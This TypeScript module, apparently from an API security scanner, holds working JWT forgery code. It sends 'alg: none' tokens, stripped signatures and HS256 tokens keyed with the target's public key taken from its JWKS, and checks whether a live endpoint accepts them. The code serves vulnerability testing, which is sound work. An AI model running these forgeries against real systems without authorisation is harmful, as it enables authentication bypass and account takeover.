import { createHmac, createPublicKey } from 'node:crypto';
import type { Exchange, LiveResponse } from '../http.js';
import type { LiveEndpoint, ProbeContext } from '../probe.js';
import { getCached, isDenied, isObject, isSuccess, jsonOf } from './support.js';
import type { JsonObject } from './support.js';

/**
 * What the forged-token probes share: identity A's JWT (read from the request the runner built
 * with A's credentials), a reference endpoint that answers A and refuses anonymous callers, and
 * the forgeries.
 */

const b64 = (value: string | Buffer): string => Buffer.from(value).toString('base64url');

export interface Jwt {
  /** The header the token travels in, and the text before the token (`Bearer `). */
  headerName: string;
  prefix: string;
  header: JsonObject;
  claims: JsonObject;
  signature: string;
  raw: string;
}

function decodeSegment(segment: string): JsonObject | undefined {
  try {
    const value = JSON.parse(Buffer.from(segment, 'base64url').toString('utf8')) as unknown;
    return isObject(value) ? value : undefined;
  } catch {
    return undefined;
  }
}

/** A's token, if A's credentials carry a JWT. */
export function jwtOf(exchange: Exchange): Jwt | undefined {
  for (const [headerName, value] of Object.entries(exchange.request.headers ?? {})) {
    const match = /^(.*?)([\w-]+)\.([\w-]+)\.([\w-]*)$/.exec(value);
    if (!match) continue;
    const [, prefix = '', h = '', p = '', s = ''] = match;
    const header = decodeSegment(h);
    const claims = decodeSegment(p);
    if (header && claims && typeof header.alg === 'string') return { headerName, prefix, header, claims, signature: s, raw: `${h}.${p}.${s}` };
  }
  return undefined;
}

export function encode(header: JsonObject, claims: JsonObject, signature = ''): string {
  return `${b64(JSON.stringify(header))}.${b64(JSON.stringify(claims))}.${signature}`;
}

export function signHs256(header: JsonObject, claims: JsonObject, secret: string): string {
  const input = `${b64(JSON.stringify({ ...header, alg: 'HS256' }))}.${b64(JSON.stringify(claims))}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}

export interface Reference {
  item: LiveEndpoint;
  /** A's answer: what an accepted forgery returns too. */
  own: Exchange;
  anonymous: Exchange;
  jwt: Jwt;
}

/** An endpoint that serves A and refuses anonymous callers, and A's JWT; undefined when there is none. */
export async function reference(ctx: ProbeContext): Promise<Reference | undefined> {
  if (!ctx.identities.a) return undefined;
  const candidates = ctx.endpoints.filter((item) => item.method === 'GET' && item.needsAuth && !item.endpoint.path.includes('{')).slice(0, 3);
  for (const item of candidates) {
    const own = await getCached(ctx, item.path, 'a');
    const jwt = jwtOf(own);
    if (!jwt) return undefined;
    if (!isSuccess(own.response) || ctx.isBaselineLike(own.response)) continue;
    const anonymous = await getCached(ctx, item.path, 'none');
    if (!isDenied(anonymous.response)) continue;
    return { item, own, anonymous, jwt };
  }
  return undefined;
}

function sameAnswer(a: LiveResponse, b: LiveResponse): boolean {
  if (a.status !== b.status) return false;
  if (a.body === b.body) return true;
  const x = jsonOf(a);
  const y = jsonOf(b);
  return isObject(x) && isObject(y) && Object.keys(x).sort().join() === Object.keys(y).sort().join() && Object.keys(x).length > 0;
}

/** Sends `token` where A's went; accepted when the answer is A's, not the anonymous refusal. */
export async function tryToken(ctx: ProbeContext, ref: Reference, token: string): Promise<{ accepted: boolean; exchange: Exchange }> {
  const exchange = await ctx.send({ method: 'GET', path: ref.item.path, headers: { [ref.jwt.headerName]: `${ref.jwt.prefix}${token}` } }, 'none');
  return { accepted: isSuccess(exchange.response) && !ctx.isBaselineLike(exchange.response) && sameAnswer(exchange.response, ref.own.response), exchange };
}

/** The target's public signing keys as PEM, from its JWKS on the same origin. */
export async function publicKeys(ctx: ProbeContext): Promise<{ pem: string; exchange: Exchange }[]> {
  for (const path of ['/.well-known/jwks.json', '/jwks.json', '/.well-known/openid-configuration']) {
    const exchange = await ctx.send({ method: 'GET', path, headers: { Accept: 'application/json' } }, 'none');
    if (!isSuccess(exchange.response) || ctx.isBaselineLike(exchange.response)) continue;
    const json = jsonOf(exchange.response);
    if (!isObject(json) || !Array.isArray(json.keys)) continue;
    const pems: { pem: string; exchange: Exchange }[] = [];
    for (const key of json.keys.filter(isObject).slice(0, 2)) {
      try {
        const pem = createPublicKey({ key: key as never, format: 'jwk' }).export({ type: 'spki', format: 'pem' }).toString();
        pems.push({ pem, exchange });
      } catch {
        // Not a public key node can read: skip it.
      }
    }
    if (pems.length > 0) return pems;
  }
  return [];
}

export type Signer = (claims: JsonObject) => string;

/**
 * A way to sign claims that the target accepts without its private key (`alg: none`, a stripped
 * signature, HS256 keyed with its public key), or undefined when every forgery is refused.
 */
export async function acceptedSigner(ctx: ProbeContext, ref: Reference): Promise<{ name: string; sign: Signer } | undefined> {
  const { header, claims } = ref.jwt;
  const signers: { name: string; sign: Signer }[] = [
    { name: '`alg: none`', sign: (c) => encode({ ...header, alg: 'none' }, c) },
    { name: 'a stripped signature', sign: (c) => encode(header, c) },
  ];
  for (const signer of signers) {
    if ((await tryToken(ctx, ref, signer.sign(claims))).accepted) return signer;
  }
  for (const { pem } of await publicKeys(ctx)) {
    const signer = { name: 'HS256 keyed with the public key', sign: (c: JsonObject) => signHs256(header, c, pem) };
    if ((await tryToken(ctx, ref, signer.sign(claims))).accepted) return signer;
  }
  return undefined;
}
